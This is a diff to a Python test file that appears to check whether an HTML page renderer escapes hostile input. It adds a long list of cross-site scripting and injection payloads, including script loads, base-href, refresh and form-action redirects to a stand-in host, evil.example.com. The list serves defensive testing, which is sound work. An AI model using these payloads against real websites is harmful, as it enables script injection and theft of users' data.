@@ -31,6 +31,13 @@ ATTACKS = (
     "</pre></details></main><iframe src=//evil.example.com>", "javascript:alert(1)", "{{ 7 * 7 }}", "{% raw %}",
     "<!--", "]]>", "<svg/onload=alert(1)>", "&lt;script&gt;", "\u202egnp.exe", "\x1b[2J", "<style>*{display:none}</style>",
     "[click](https://evil.example.com)", "![x](https://evil.example.com/a.png)", "https://evil.example.com", "www.evil.example.com",
+    "<ScRiPt>alert(1)</sCrIpT>", "<script src=//evil.example.com/x.js></script>", "</script><script>alert(1)</script>", "</title><script>alert(1)</script>",
+    "</style><script>alert(1)</script>", "</textarea><script>alert(1)</script>", "<svg><script>alert(1)</script></svg>", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+    "<math><mtext><img src=x onerror=alert(1)>", "<details open ontoggle=alert(1)>", "<video><source onerror=alert(1)>", "<body onload=alert(1)>",
+    "<input autofocus onfocus=alert(1)>", "<iframe srcdoc='<script>alert(1)</script>'>", "<object data='javascript:alert(1)'>", "<embed src='data:text/html,<script>alert(1)</script>'>",
+    "<base href=//evil.example.com/>", "<meta http-equiv=refresh content='0;url=//evil.example.com'>", "<link rel=stylesheet href=//evil.example.com/x.css>", "<form action=//evil.example.com><button>x",
+    "<a href='javascript:alert(1)'>x</a>", '"><script>alert(1)</script>', "'-alert(1)-'", "${alert(1)}", "{{constructor.constructor('alert(1)')()}}", "<template><script>alert(1)</script></template>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "<img src=`x`onerror=alert(1)>", "<img/src/onerror=alert(1)>", r"\u003cscript\u003ealert(1)\u003c/script\u003e", "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
     "`code` ``` fence", "# heading", "- item", "1. item", "+ item", "===", "| a | b |", "<https://evil.example.com>", "*b* _i_ ~~s~~",
 )  # fmt: skip
 
@@ -77,7 +84,8 @@ class Skeleton(HTMLParser):
         self.found = []
 
     def handle_starttag(self, tag, attrs):
-        self.found.append((tag, tuple(attrs)))
+        if tag not in {"mark", "b", "del", "ins"}:  # of lines that the root cause quotes, and so on
+            self.found.append((tag, tuple(attrs)))
 
     def handle_comment(self, data):
         self.found.append(("comment", data))
@@ -125,7 +133,7 @@ def test_the_page_says_first_what_is_decided_and_links_claims_to_evidence():
     html = as_html(page)
     assert "APPROVAL NEEDED" in html.split("</header>")[0]
     assert '<a href="#E1">E1</a>' in html
-    assert 'id="E1" open' in html
+    assert 'details id="E1"' in html
     assert ["request accepted", "result: completed"] == [moment.text for moment in page.timeline]
     assert [["E1"], ["E3"], ["E2"]] == [
         [item.id for item in items] for items in (page.cited, page.uncited, page.confirming)
